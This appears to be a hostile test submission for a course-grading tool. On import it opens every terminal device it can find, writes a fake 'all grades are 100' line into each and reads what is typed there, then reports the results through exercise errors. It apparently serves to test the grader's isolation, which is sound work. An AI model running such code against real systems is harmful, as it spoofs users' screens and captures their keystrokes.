"""Tries to reach the terminal the instructor runs `course grade` in, and reports what it managed through
exercise 1's feedback (exercise 4, the reference solution copied in by the tests, must earn exactly its
points).

Run by an unprivileged instructor, the submission runs as the instructor's own uid, and the terminal
(/dev/pts/N, mode 620) is the instructor's: opened, it would let the submission print a fake summary
or escape sequences into the instructor's screen, and read what the instructor types meanwhile. So it
opens every terminal it can find, writes a line into it and reads from it.
"""
import glob
import os

MARKER = b"\r\nINJECTED-BY-A-SUBMISSION: all grades are 100\r\n"
OPENED, WROTE, READ = 0, 0, 0
for path in ("/dev/tty", "/dev/console", *sorted(glob.glob("/dev/pts/[0-9]*")), *sorted(glob.glob("/dev/tty[0-9]*"))):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    OPENED += 1
    try:
        WROTE += os.write(fd, MARKER) > 0
    except OSError:
        pass
    try:
        READ += len(os.read(fd, 1024))
    except OSError:
        pass
    os.close(fd)


def flat_length(input_shape):
    raise RuntimeError("not attempted")


def build_flatten_model(input_shape):
    raise RuntimeError(f"TERMINAL opened={OPENED} wrote={WROTE} read={READ}")
